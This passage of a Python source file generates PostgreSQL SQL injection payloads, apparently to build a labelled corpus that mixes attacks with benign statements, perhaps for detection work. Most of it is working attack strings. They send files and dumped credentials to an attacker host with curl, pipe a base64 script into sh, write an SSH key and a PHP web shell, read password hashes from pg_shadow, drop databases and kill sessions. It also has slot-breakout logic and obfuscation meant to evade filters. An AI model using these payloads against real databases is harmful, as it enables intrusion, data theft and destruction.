            ("disable_all_triggers", "ALTER TABLE %s DISABLE TRIGGER ALL" % t), ("default_privileges_public", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO PUBLIC"),
            ("rule_copy_inserts", "CREATE RULE %s AS ON INSERT TO %s DO ALSO NOTIFY %s" % (nm, t, nm)),
            ("terminate_other_backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"),
            ("cancel_replicator", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE backend_type = 'walsender'"),
            ("drop_database_force", "DROP DATABASE IF EXISTS %s WITH (FORCE)" % r.choice(["app", "wordpress", "hatchery"])),
            ("database_conn_limit_zero", "ALTER DATABASE %s CONNECTION LIMIT 0" % r.choice(["app", "postgres"])), ("checkpoint_switch_wal", "CHECKPOINT; SELECT pg_switch_wal()"),
            ("index_on_sleep_expr", "CREATE INDEX CONCURRENTLY %s ON %s ((pg_sleep(1) IS NULL))" % (nm, t)), ("table_owner_current", "ALTER TABLE %s OWNER TO CURRENT_USER" % t),
            ("authid_superuser_update", "UPDATE pg_authid SET rolsuper = true WHERE rolname = current_user"), ("delete_returning_all", "DELETE FROM %s RETURNING *" % t),
            ("sequence_restart", "ALTER SEQUENCE %s_id_seq RESTART WITH 1" % t), ("advisory_lock_storm", "SELECT pg_advisory_lock(k) FROM generate_series(1, %d) k" % r.choice([50000, 200000])),
            ("set_local_role", "SET LOCAL ROLE %s" % r.choice(["postgres", "pg_execute_server_program"])), ("reset_session_auth", "RESET ALL; SET SESSION AUTHORIZATION DEFAULT"),
            ("comment_on_role_note", "COMMENT ON ROLE %s IS '%s'" % (r.choice(["postgres", "pyro_app"]), w)), ("vacuum_full_analyze_lock", "VACUUM (FULL, ANALYZE) %s" % t)]]
    if fam == "boolean_blind":
        pn, pe = probe_named(r)
        pn2, pe2 = probe_named(r, "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pe, PG), ("or_" + pn, "cond", "OR " + pe, PG), ("login_" + pn2, "cond", "AND " + pe2, PG), ("not_" + pn, "cond", "AND NOT (%s)" % pe, PG)] + [
            (n, "cond", c, PG) for n, c in [
                ("authid_select_priv", "AND has_table_privilege('pg_authid', 'SELECT')"), ("member_read_files", "AND pg_has_role(current_user, 'pg_read_server_files', 'MEMBER')"),
                ("rls_active", "AND row_security_active('%s')" % t), ("to_regrole_exists", "AND to_regrole('%s') IS NOT NULL" % r.choice(["postgres", "rdsadmin", "cloudsqladmin", "azure_pg_admin"])),
                ("superuser_guc_on", "AND current_setting('is_superuser') = 'on'"), ("dblink_extension_present", "AND EXISTS (SELECT FROM pg_extension WHERE extname = 'dblink')"),
                ("no_publications", "AND (SELECT count(*) FROM pg_publication) = 0"), ("control_version", "AND (pg_control_system()).pg_control_version > %d" % r.choice([1100, 1201, 1300])),
                ("postgres_rolcanlogin", "AND (SELECT rolcanlogin FROM pg_roles WHERE rolname = 'postgres')"), ("server_port_default", "AND inet_server_port() = 5432"),
                ("exec_program_usage", "AND pg_has_role('pg_execute_server_program', 'USAGE')"), ("row_count_bisect", "AND (SELECT count(*) FROM %s) > %d" % (t, r.randint(1, 500))),
                ("secdef_exists", "AND EXISTS (SELECT 1 FROM pg_proc WHERE prosecdef AND proowner = 10)")]]
    if fam == "time_pg_sleep":
        pe = probe(r)
        return [
            ("sleep_for_interval_literal", "cond", "AND pg_sleep_for(interval '%d seconds') IS NULL" % s, PG),
            ("sleep_until_clock", "cond", "AND (SELECT 1 FROM pg_sleep_until(clock_timestamp() + interval '%d s')) IS NULL" % s, PG),
            ("crypt_bf_series", "cond", "AND (SELECT count(crypt(g::text, gen_salt('bf', %d))) FROM generate_series(1, %d) g) > 0" % (r.choice([10, 11, 12]), r.choice([20, 40, 80])), PG),
            ("crypt_single_cost", "cond", "AND length(crypt('%s', gen_salt('bf', %d))) > 0" % (w, r.choice([14, 15, 16])), PG),
            ("md5_repeat_series", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g WHERE md5(repeat(g::text, 64)) > 'f') >= 0" % r.choice([800000, 2000000]), PG),
            ("advisory_lock_wait", "cond", "AND (SELECT pg_advisory_lock(%d)) IS NULL" % key, PG),
            ("advisory_xact_wait_stack", "stack", "SELECT pg_advisory_xact_lock(%d); SELECT pg_sleep(%d)" % (key, s), PG),
            ("dblink_remote_sleep", "cond", "AND (SELECT 1 FROM dblink('dbname=postgres', 'SELECT pg_sleep(%d)') AS d(x text)) IS NULL" % s, PG),
            ("catalog_cross_join", "cond", "AND (SELECT count(*) FROM pg_attribute a, pg_attribute b, pg_class c) > 0", PG),
            ("sleep_for_value", "repl", "(SELECT %d FROM pg_sleep_for('%d seconds'))" % (a, s), PG),
            ("concat_sleep_until", "concat", "(SELECT '' FROM pg_sleep_until(now() + '%d sec'))" % s, PG),
            ("exists_probe_sleep", "cond", "AND EXISTS (SELECT 1 WHERE %s AND pg_sleep(%d) IS NOT NULL)" % (pe, s), PG),
            ("stack_case_probe_sleep", "stack", "SELECT CASE WHEN %s THEN pg_sleep(%d) ELSE pg_sleep(0) END" % (pe, s), PG),
            ("in_sleep_numeric", "cond", "AND 0 IN (SELECT 0 FROM pg_sleep(%d * 1.0))" % s, PG),
            ("order_sleep_for", "order", "(SELECT 1 FROM pg_sleep_for('%d s'))" % s, PG),
            ("lateral_values_sleep", "cond", "AND (SELECT count(*) FROM (VALUES (1)) v(x) CROSS JOIN LATERAL pg_sleep(%d)) = 1" % s, PG),
            ("repeat_regex_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1, %d) g WHERE repeat('ab', g %% 90) ~ '(a|b)*c') >= 0" % r.choice([300000, 600000]), PG),
            ("lock_then_sleep", "stack", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(%d)" % (t, s), PG)]
    if fam == "error_cast":
        pe = probe(r)
        x = "(%s)::text" % e
        return [
            ("circle_cast_leak", "cond", "AND %s::circle IS NULL" % x, PG), ("lseg_cast_leak", "cond", "AND CAST(%s AS lseg) IS NULL" % x, PG),
            ("regprocedure_cast_leak", "cond", "AND %s::regprocedure IS NULL" % x, PG), ("regoperator_cast_leak", "cond", "OR %s::regoperator IS NULL" % x, PG),
            ("macaddr8_cast_leak", "cond", "AND %s::macaddr8 IS NULL" % x, PG), ("bit_cast_leak", "cond", "AND %s::bit(8) = B'0'" % x, PG),
            ("int4range_literal_leak", "cond", "AND ('[' || %s || ',5)')::int4range IS NULL" % x, PG),
            ("json_populate_record_leak", "cond", "AND (json_populate_record(NULL::pg_stat_archiver, json_build_object('archived_count', %s))).archived_count IS NULL" % x, PG),
            ("jsonb_populate_record_oid", "cond", "AND (jsonb_populate_record(NULL::pg_database, jsonb_build_object('oid', %s))).oid IS NULL" % x, PG),
            ("xmlparse_content_leak", "cond", "AND xmlparse(content '<' || %s) IS NULL" % x, PG), ("make_date_year_leak", "cond", "AND make_date(%s::int, 1, 1) IS NULL" % x, PG),
            ("to_date_julian_leak", "cond", "AND to_date(%s, 'J') IS NULL" % x, PG), ("to_timestamp_epoch_leak", "cond", "AND to_timestamp(%s::float8) IS NULL" % x, PG),
            ("interval_cast_leak", "cond", "AND %s::interval IS NULL" % x, PG), ("uuid_in_cstring", "cond", "AND uuid_in(%s::cstring) IS NULL" % x, PG),
            ("numeric_in_cstring", "cond", "AND numeric_in(%s::cstring, 0, -1) IS NULL" % x, PG), ("int_array_literal_leak", "cond", "AND ('{' || %s || '}')::int[] IS NULL" % x, PG),
            ("cond_range_bounds", "cond", "AND int8range(CASE WHEN %s THEN 5 ELSE 1 END, 2) IS NOT NULL" % pe, PG),
            ("cond_sqrt_negative", "cond", "AND sqrt(CASE WHEN %s THEN -1 ELSE 1 END) > 0" % pe, PG), ("cond_ln_zero", "cond", "AND ln(CASE WHEN %s THEN 0 ELSE 1 END) >= 0" % pe, PG),
            ("cond_chr_zero", "cond", "AND chr(CASE WHEN %s THEN 0 ELSE 65 END) = 'A'" % pe, PG),
            ("cond_bad_regex", "cond", "AND regexp_match('x', CASE WHEN %s THEN '(' ELSE 'x' END) IS NOT NULL" % pe, PG),
            ("cond_make_date_feb30", "cond", "AND make_date(2024, 2, CASE WHEN %s THEN 30 ELSE 1 END) IS NOT NULL" % pe, PG),
            ("order_circle_cast", "order", "%s::circle" % x, PG), ("value_regrole_oid", "repl", "(SELECT %s::regrole::oid)" % x, PG),
            ("concat_macaddr_cast", "concat", "CAST(%s AS macaddr)::text" % x, PG)]
    if fam == "oob_file_program":
        b64 = base64.b64encode(("#!/bin/sh\n" + cmd + "\n").encode()).decode()
        return [(n, m, c, PG) for n, m, c in [
            ("copy_to_authorized_keys", "stack", "COPY (SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@%s') TO '/var/lib/postgresql/.ssh/authorized_keys'" % (rword(r, 20), host)),
            ("copy_program_curl_post_file", "stack", "COPY (SELECT '') TO PROGRAM 'curl -s -d @%s http://%s/'" % (f, host)),
            ("copy_from_program_dig_txt", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM 'dig +short txt %s.%s'" % (nm, nm, nm, host)),
            ("copy_program_ping_ip", "stack", "COPY (SELECT 1) TO PROGRAM 'ping -c 1 %s'" % ip),
            ("copy_program_b64_shell", "stack", "COPY (SELECT convert_from(decode('%s', 'base64'), 'UTF8')) TO PROGRAM 'sh'" % b64),
            ("copy_to_webroot_php", "stack", "COPY (SELECT '<?php system($_GET[\"c\"]); ?>') TO '/var/www/html/%s.php'" % nm),
            ("copy_loot_to_program_post", "stack", "COPY (SELECT string_agg(%s || ':' || %s, ',') FROM %s) TO PROGRAM 'curl -X POST --data-binary @- http://%s/'" % (u, p, t, host)),
            ("read_file_missing_ok_4arg", "cond", "AND pg_read_file('%s', 0, 64, true) IS NOT NULL" % f), ("read_binary_offset_len", "stack", "SELECT pg_read_binary_file('%s', 0, 512)" % f),
            ("logdir_newest_read", "stack", "SELECT pg_read_file('log/' || (SELECT name FROM pg_ls_logdir() ORDER BY modification DESC LIMIT 1))"),
            ("current_logfile_read", "stack", "SELECT pg_read_file(pg_current_logfile())"),
            ("stat_file_recent", "cond", "AND (pg_stat_file('%s', true)).modification > now() - interval '1 day'" % f),
            ("lo_import_get_convert", "stack", "SELECT convert_from(lo_get(lo_import('%s')), 'UTF8')" % f),
            ("lo_put_then_export", "stack", "SELECT lo_create(%d); SELECT lo_put(%d, 0, decode('%s', 'base64')); SELECT lo_export(%d, '/tmp/%s')" % (key, key, b64, key, nm)),
            ("postgres_fdw_server_out", "stack", "CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'x'); CREATE USER MAPPING FOR CURRENT_USER SERVER %s OPTIONS (user 'u', password 'p')" % (nm, ip, nm)),
            ("subscription_connect_out", "stack", "CREATE SUBSCRIPTION %s CONNECTION 'host=%s port=5432 dbname=postgres' PUBLICATION p WITH (connect = true)" % (nm, ip)),
            ("archive_command_upload", "stack", "ALTER SYSTEM SET archive_mode = on; ALTER SYSTEM SET archive_command = 'curl -T %%p http://%s/'; SELECT pg_reload_conf()" % host),
            ("ssl_passphrase_shell", "stack", "ALTER SYSTEM SET ssl_passphrase_command = 'sh -c \"%s\"'; SELECT pg_reload_conf()" % sq(cmd).replace('"', "")),
            ("union_read_file_missing_ok", "union", "UNION ALL SELECT pg_read_file('%s', 0, 200, true)" % f),
            ("concat_read_binary_hex", "concat", "encode(pg_read_binary_file('%s', 0, 48), 'hex')" % f),
            ("dns_dblink_connect_u", "cond", "AND dblink_connect_u('host=' || md5((%s)::text) || '.%s user=a') IS NOT NULL" % (e, host)),
            ("dblink_send_query_out", "stack", "SELECT dblink_connect('x', 'hostaddr=%s dbname=d user=u'); SELECT dblink_send_query('x', 'SELECT 1')" % ip)]]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        B = lambda body: tg + " " + body + " " + tg
        return [(n, "stack", c, PG) for n, c in [
            ("do_language_plperlu_system", "DO LANGUAGE plperlu %s" % B("system('%s');" % sq(cmd).replace("'", ""))),
            ("do_assert_leak", "DO %s" % B("BEGIN ASSERT false, (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("do_quote_ident_superuser", "DO %s" % B("BEGIN EXECUTE 'ALTER ROLE ' || quote_ident(current_user) || ' SUPERUSER'; END")),
            ("do_loop_terminate", "DO %s" % B("DECLARE x int; BEGIN FOR x IN SELECT pid FROM pg_stat_activity WHERE pid <> pg_backend_pid() LOOP PERFORM pg_terminate_backend(x); END LOOP; END")),
            ("do_exec_string_agg_drop", "DO %s" % B("BEGIN EXECUTE (SELECT string_agg('DROP TABLE ' || quote_ident(tablename), '; ') FROM pg_tables WHERE schemaname = 'public'); END")),
            ("hijack_public_lower", "CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE plpgsql AS %s" % B("BEGIN PERFORM pg_sleep(%d); RETURN pg_catalog.lower($1); END" % s)),
            ("secdef_sql_grant", "CREATE FUNCTION %s() RETURNS void LANGUAGE sql SECURITY DEFINER AS %s; SELECT %s()" % (nm, B("GRANT pg_read_server_files TO PUBLIC"), nm)),
            ("trigger_fn_notify_rows", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS %s; CREATE TRIGGER %s AFTER INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()" % (
                nm, B("BEGIN PERFORM pg_notify('%s', row_to_json(NEW)::text); RETURN NEW; END" % nm), nm, t, nm)),
            ("do_raise_info_shadow", "DO %s" % B("DECLARE x record; BEGIN FOR x IN SELECT usename, passwd FROM pg_shadow LOOP RAISE INFO '% %', x.usename, x.passwd; END LOOP; END")),
            ("do_format_copy_program", "DO %s" % B("BEGIN EXECUTE format('COPY (SELECT %%L) TO PROGRAM %%L', version(), 'curl -d @- http://%s/'); END" % host)),
            ("procedure_begin_atomic_delete", "CREATE PROCEDURE %s() LANGUAGE sql BEGIN ATOMIC DELETE FROM %s; END; CALL %s()" % (nm, t, nm)),
            ("do_exception_then_exec", "DO %s" % B("BEGIN BEGIN PERFORM 1/0; EXCEPTION WHEN others THEN EXECUTE 'ALTER USER ' || current_user || ' CREATEROLE'; END; END")),
            ("plpython_urlopen", "CREATE FUNCTION %s() RETURNS text LANGUAGE plpython3u AS %s" % (nm, B("import urllib.request; return urllib.request.urlopen('http://%s/').read().decode()" % host))),
            ("do_set_config_role", "DO %s" % B("BEGIN PERFORM set_config('role', 'pg_write_server_files', false); END")),
            ("do_wait_advisory", "DO %s" % B("BEGIN WHILE NOT pg_try_advisory_lock(%d) LOOP PERFORM pg_sleep(0.5); END LOOP; END" % key)),
            ("setof_record_exec_fn", "CREATE FUNCTION %s(q text) RETURNS SETOF record LANGUAGE plpgsql AS %s; SELECT * FROM %s('SELECT rolname, rolpassword FROM pg_authid') AS x(a name, b text)" % (
                nm, B("BEGIN RETURN QUERY EXECUTE q; END"), nm)),
            ("do_dblink_loopback_alter", "DO %s" % B("BEGIN PERFORM dblink_exec('host=127.0.0.1 dbname=postgres user=postgres', 'ALTER SYSTEM SET log_connections = off'); END"))]]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        return [
            ("jsonb_key_dollar", "cond", "OR %s::jsonb ? %s" % (D('{"%s": 1}' % w), D(w)), PG), ("starts_with_dollar", "cond", "AND starts_with(current_user, %s)" % D(w[0]), PG),
            ("union_values_dollar", "union", "UNION ALL SELECT %s || session_user" % D(w), PG), ("copy_to_file_dollar", "stack", "COPY (SELECT %s) TO %s" % (D("* * * * * curl %s" % host), D("/tmp/%s" % nm)), PG),
            ("alter_system_dollar", "stack", "ALTER SYSTEM SET archive_command = %s" % D("nc %s 9 < %%p" % ip), PG),
            ("create_superuser_dollar", "stack", "CREATE USER %s WITH SUPERUSER PASSWORD %s" % (nm, D(rword(r, 12))), PG),
            ("do_nested_dollar", "stack", "DO $o$ BEGIN EXECUTE $i$DELETE FROM %s$i$; END $o$" % t, PG), ("regexp_like_dollar", "cond", "OR regexp_like(%s, %s)" % (D(w), D("^" + w[0])), PG),
            ("dollar_circle_leak", "cond", "AND (%s || (%s)::text)::circle IS NULL" % (D("<"), e), PG), ("notify_dollar_channel", "stack", "SELECT pg_notify(%s, (%s)::text)" % (D(nm), e), PG),
            ("concat_dollar_dash", "concat", "%s || current_user" % D("-"), PG), ("like_dollar_pattern", "cond", "OR %s LIKE %s" % (D(w), D(w[0] + "%")), PG),
            ("set_config_role_dollar", "stack", "SELECT set_config(%s, %s, false)" % (D("role"), D("postgres")), PG), ("digit_tag_cast", "cond", "OR $a1$%d$a1$::int = %d" % (a, a), PG),
            ("empty_body_eq", "cond", "OR $$$$ = ''", PG), ("in_list_dollar", "cond", "OR '%s' IN (%s, %s)" % (w, D(w), D("zz")), PG),
            ("read_file_dollar_offset", "stack", "SELECT pg_read_file(%s, 0, 100)" % D(f), PG), ("value_dollar_length", "repl", "(SELECT octet_length(%s))" % D(w), PG)]
    if fam == "e_escape":
        u4 = lambda v: "".join("\\u%04x" % ord(c) for c in v)
        o3 = lambda v: "".join("\\%03o" % ord(c) for c in v)
        hx = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        uni = lambda v, ch="\\": "".join("%s%04X" % (ch, ord(c)) for c in v)
        word = r.choice(["postgres", "root", who, "pg_authid"])
        ech = r.choice(["!", "%", "^", "~"])
        mixed = "".join(r.choice([c, "\\x%02x" % ord(c), "\\%03o" % ord(c)]) for c in word)
        return [
            ("e_u4_escape_eq", "cond", "OR E'%s' = '%s'" % (u4(w), w), PG), ("e_octal_three_digit", "cond", "AND current_user <> E'%s'" % o3(word), PG),
            ("e_hex_lower_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % hx(cmd), PG), ("e_escaped_quote_pair", "cond", "OR E'\\'' = ''''", PG),
            ("e_mixed_escapes_eq", "cond", "OR E'%s' = '%s'" % (mixed, word), PG), ("e_tab_union_version", "union", "UNION ALL SELECT E'\\t' || version()", PG),
            ("e_user_valid_until", "stack", "CREATE USER %s PASSWORD E'%s' VALID UNTIL 'infinity'" % (nm, hx(rword(r, 9))), PG),
            ("uamp_read_file_uescape", "stack", "SELECT pg_read_file(U&'%s' UESCAPE '%s')" % (uni(f, ech), ech), PG),
            ("uamp_ident_function", "cond", "AND U&\"%s\"(%d) IS NULL" % (uni("pg_sleep"), s), PG),
            ("uamp_ident_column_union", "union", "UNION SELECT %s FROM pg_authid" % nulls(1, 0, "U&\"%s\"" % uni("rolpassword")), PG),
            ("uamp_six_digit_plus", "cond", "OR U&'\\+%06X' = '%s'" % (ord(w[0]), w[0]), PG), ("e_like_backslash_underscore", "cond", "OR 'a_b' LIKE E'a\\\\_b'", PG),
            ("e_bytea_hex_user", "cond", "AND convert_from(E'\\\\x%s'::bytea, 'UTF8') = current_user" % word.encode().hex(), PG),
            ("e_octal_quotes_concat", "concat", "E'\\047' || current_user || E'\\047'", PG), ("unistr_user_cmp", "cond", "AND current_user = unistr('%s')" % uni(word), PG),
            ("uamp_ident_table_delete", "stack", "DELETE FROM U&\"%s\"" % uni(t, "\\"), PG)]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("row_to_json_authid", "(SELECT row_to_json(a)::text FROM pg_authid a WHERE rolsuper LIMIT 1)"), ("to_jsonb_loot_row", "(SELECT to_jsonb(x)::text FROM %s x LIMIT 1)" % t),
            ("array_to_json_roles", "array_to_json(ARRAY(SELECT rolname FROM pg_roles))::text"), ("xmlagg_usernames", "(SELECT xmlagg(xmlelement(name u, usename))::text FROM pg_user)"),
            ("concat_ws_loot_pair", "(SELECT concat_ws('|', %s, %s) FROM %s LIMIT 1)" % (u, p, t)), ("host_server_addr", "host(inet_server_addr())"),
            ("setting_hba_file", "current_setting('hba_file')"), ("sha256_secret_hex", "encode(sha256(convert_to((SELECT %s FROM %s LIMIT 1), 'UTF8')), 'hex')" % (p, t)),
            ("format_literal_secret", "format('%%L', (SELECT %s FROM %s LIMIT 1))" % (p, t)), ("lpad_version_dots", "lpad(version(), 80, '.')"),
            ("left_read_file_ok", "left(pg_read_file('%s', 0, 100, true), 40)" % r.choice(FILES)),
            ("translate_secret_digits", "translate((SELECT %s FROM %s LIMIT 1), '0123456789', 'abcdefghij')" % (p, t)),
            ("distinct_schemas_agg", "(SELECT string_agg(DISTINCT table_schema, ',') FROM information_schema.tables)"),
            ("jsonb_ssl_settings", "(SELECT jsonb_object_agg(name, setting)::text FROM pg_settings WHERE name LIKE 'ssl%')"),
            ("case_probe_yes_no", "(CASE WHEN %s THEN 'Y' ELSE 'N' END)" % probe(r)), ("repeat_row_count", "repeat('#', (SELECT count(*)::int FROM %s))" % t),
            ("quote_ident_tables", "(SELECT string_agg(quote_ident(relname), ' ') FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace)")]]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off (# and /* are habits from other back-ends)."""
    return r.choice(["--", "--", "-- ", "-- -", "--#", "-- //", "--;", "--%s" % rword(r, 3), ";--", "; -- ", "-- ' --", "/*", "#"])


def breakout(r, si, orig, mode, core):
    """What a person types into this slot to run core there, or None where the technique has no sensible form for the slot."""
    typ, cl, cut = si["type"], si["closers"], si["cut"]
    close_all = cut if cut is not None else cl
    sp = lambda: r.choice([" ", " ", "", "\n"])
    if mode in ("cond", "open") and not si["cond_ok"]:
        return None
    if si["lead"] == "SET" and mode != "stack":
        return None                                   # SET takes a literal, not an expression
    if mode == "union" and (not si["select"] or si["in_order"] or si["in_limit"] or si["in_values"] or typ in ("col", "dir")):
        if not (typ == "ident" and si["lead"] == "TABLE"):
            return None
    if typ in ("q", "e", "d"):
        qc = CLOSER[typ]
        lv = orig if typ == "d" else r.choice([orig, orig, orig, "", "x", "1"])
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            lv = lv + qc + " AND " + qc + orig
        if mode == "open":
            if typ == "d" or cl:
                return None
            left, right = core
            return lv + qc + " " + left + right
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + qc + " || " + core + " || " + qc
            j = r.choice(["||", " || ", "|| ", "||\t"])
            return r.choice([lv, ""]) + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            x = r.random()
            if x < 0.35 and typ != "d":
                k = si["cond_k"] if r.random() < 0.8 else 0
                ww = r.choice(["a", "1", rword(r, 3), "z"])
                bal = r.choice(["'%s'='%s" % (ww, ww), "'%s' LIKE '%s" % (ww, ww), "'%s'<>'" % ww, "'%s' IS NOT NULL AND '" % ww])
                return lv + qc + ")" * k + " " + core + " AND " + "(" * k + bal
            if x < 0.5 and typ == "d":
                return lv + qc + " " + core + " AND " + TAG + "n" + TAG + "=" + TAG + "n"
            return lv + qc + (close_all if r.random() < 0.3 else cl[:si["cond_k"]]) + " " + core + sp() + ending(r)
        if mode == "union":
            return r.choice([lv, "", "-1", "zz"]) + qc + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            return lv + qc + close_all + r.choice([";", "; ", ";\n", ";\r\n"]) + core + r.choice([";", "", ""]) + sp() + ending(r)
        return None
    if typ == "qi":
        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
    if typ in ("n", "list"):
        if mode == "open":
            return None
        if mode == "repl":
            return core if typ != "list" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            return orig + r.choice([" + 0*length(%s)", " - octet_length(%s) + octet_length(%s)", " * (length(%s) > 0)::int", " + (SELECT 0 WHERE %s IS NULL)"]).replace("%s", "(" + core + ")")
        if mode == "order":
            return orig + ", " + core if si["in_order"] else None
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            orig = orig + " AND " + r.choice(["99999", "1e9", "2147483647"])
        if mode == "cond":
            ck = cl[:si["cond_k"]]
            if ck and r.random() < 0.6:
                return orig + ck + " " + core + " AND " + "(" * len(ck) + "%d=%d" % ((lambda v: (v, v))(r.randint(1, 999)))
            if cl:
                return orig + (close_all if r.random() < 0.3 else ck) + " " + core + sp() + ending(r)
            return orig + " " + core + (sp() + ending(r) if si["tail_means"] and r.random() < 0.55 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "-%d" % r.randint(1, 9999)]) + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            tail = sp() + ending(r) if close_all or si["tail_means"] or r.random() < 0.5 else ""
            return orig + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([";", ""]) + tail
        return None
    if typ in ("col", "dir"):
        if mode == "order":
            return (core if typ == "col" and r.random() < 0.4 else orig + ", " + core) + (sp() + ending(r) if r.random() < 0.3 else "")
        if mode == "cond" and si["in_order"]:
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + sp() + ending(r)
        return None
    if typ == "ident":
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + r.choice([" --", "--", ";--", "; -- -", ""])
        if mode == "union":
            return orig + " " + core + r.choice(["", " --", "--"])
        return None
    return None


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat"), "e": ("cond", "open", "union", "stack", "repl", "concat"),
         "d": ("cond", "union", "stack", "repl", "concat"), "qi": ("cond", "stack", "order"), "n": ("cond", "union", "stack", "repl", "concat", "order"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack", "union")}


hand = partial(corpus_kit.hand_payload, cores=hand_cores, fitting=partial(corpus_kit.fitting, modes=MODES), breakout=breakout)


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)

    if fam == "obf_case_mix":
        style = r.randrange(5)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)
            if style == 1:
                return w.swapcase()
            if style == 2:
                return w[0].lower() + w[1:].upper()
            if style == 3:
                return "".join(c.upper() if c.lower() in "aeiou" else c.lower() for c in w)
            return "".join(c.upper() if j % 3 == 0 else c.lower() for j, c in enumerate(w))
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t\t", "\n\r", "\r\n\t", "\f\f", " \n ", "\t \t", "\n  \n", "\r", "\f \t", "\u000b"]
        use_v = r.random() < 0.2

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool if use_v else pool[:-1]), t)
            t = re.sub(r"([(])", lambda m: m.group(1) + r.choice(["\t", "\n", "\r\n"]) if r.random() < 0.3 else m.group(1), t)
            return re.sub(r"([)])", lambda m: r.choice(["\n", "\f"]) + m.group(1) if r.random() < 0.2 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/*\n*/", "/***/", "/*+*/", "/*!50000*/", "/* */", "/*0*/", "/*-*/", "/**_**/", "--%s\n" % rword(r, 3), "/*\r*/", "/*%s*/" % rstr(r, r.randint(2, 6))]
        split_kw = r.random() < 0.1

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r",", lambda m: r.choice([",/**/", "/**/,", ","]), t)
            if r.random() < 0.35:
                t = re.sub(r"\b([A-Za-z_]+)\(", lambda m: m.group(1) + r.choice(["/**/(", "/*x*/(", "("]), t)
            if split_kw:
                t = re.sub(r"\b(UNION|SELECT|union|select)\b", lambda m: m.group(1)[:3] + "/**/" + m.group(1)[3:], t)
            return t
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+*;~&^@?]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in) (\d+|true|false|current_user|session_user)\b",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(FROM|from) ([a-z_]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if r.random() < 0.4 else m.group(0), t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Mathilde Gagnon", "Eoghan Mac Suibhne", "Ánde Somby", "Kaito Fujimura", "Priya Raghunathan", "Fionnuala O'Dwyer", "Tomasz Wierzbicki",
          "Aroha Ngata", "Beatriz Carvalho", "Olu Adeyemi", "Siri Halvorsen", "Giacomo D'Angelo", "Zanele Mokoena", "Rustam Nazarov"]
NOTES = ["sap line 4 leaking at the manifold", "client asked for \"no logo\" on the cantle", "select the longer reed for the ridge", "union rate applies after 6pm",
         "deposit paid -- ref 2207", "O'Neill will collect the rope", "15% society discount", "fragile: contains a harpsichord jack rail", "awaiting judge's sign-off",
         "re-gild after varnish cures", "update: tank 9 has a new chiller", "leave at the yurt's side flap", "fire only after the 21:00 curfew", "contains hazard class 1.4G"]
SUGARBUSH = ["Bois-Francs north", "Lot 7 erabliere", "Sweet Hollow", "Cabane Gagnon", "Hidden Spring"]
RIVERS = ["River Dee", "Glenmoriston burn", "Findhorn", "River Shin", "Conon", "Tay"]
SIIDA = ["Gáregasnjárga", "Fávllis", "Lákkonjárga", "Ábborašša", "Suoššjávri"]
TUNES = ["Blaze Away", "Colonel Bogey", "The Dark Island", "Scotland the Brave", "Highland Cathedral", "Mull of Kintyre"]
